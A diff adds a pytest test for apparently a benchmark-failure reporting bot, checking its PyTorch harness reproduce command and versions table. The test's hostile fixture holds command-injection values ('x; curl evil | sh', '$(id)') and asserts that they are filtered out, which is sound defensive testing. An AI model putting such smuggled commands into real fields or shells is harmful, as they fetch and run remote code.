@@ -156,3 +156,28 @@ def test_a_harness_that_cannot_set_up_is_a_setup_failure(tmp_path, bot):
     assert proc.returncode == 0
     f = json.loads((out / "failures" / row["id"] / "failure.json").read_text())
     assert f["repro"]["status"] == "none" and "could not be set up" in f["repro"]["reason"]
+
+
+def test_a_harness_issue_gives_the_plain_harness_command_and_the_harness_versions():
+    """The issue's "Reproduce locally" starts with the harness command a compiler engineer types
+    (the batch size the harness used, the checkout's revision); the versions table names the
+    checkout, the model libraries and the CPU's vector ISA. Every field is checked first: a run
+    directory may come from a pull request's job."""
+    from bot.report.context import _harness_versions, reproduce_command
+
+    rev = "a" * 40
+    check = {"model": "MobileBertForMaskedLM", "backend": "inductor", "mode": "inference", "dtype": "float32",
+             "device": "cpu", "config": {}, "batch_size": 4,
+             "spec": {"source": "harness", "suite": "huggingface", "model": "MobileBertForMaskedLM"},
+             "harness": {"revision": rev, "transformers": "5.23.0", "timm": None, "cpu_isa": "avx2"}}
+    lines = reproduce_command(check, has_repro=True).splitlines()
+    assert lines[1] == f"cd PYTORCH_CHECKOUT    # a pytorch checkout at {rev}"
+    assert lines[2] == ("python benchmarks/dynamo/huggingface.py --accuracy --inference --float32 --devices cpu "
+                        "--inductor --only MobileBertForMaskedLM --batch-size 4    # the plain harness run")
+    assert _harness_versions(check) == [("harness revision", rev), ("transformers", "5.23.0"),
+                                        ("cpu vector ISA", "avx2")]
+    hostile = dict(check, model="x; curl evil | sh",
+                   harness={"revision": "$(id)", "transformers": "<b>", "cpu_isa": "a b"})
+    text = reproduce_command(hostile, has_repro=False)
+    assert "benchmarks/dynamo" not in text and "curl" not in text and "$(id)" not in text
+    assert _harness_versions(hostile) == []
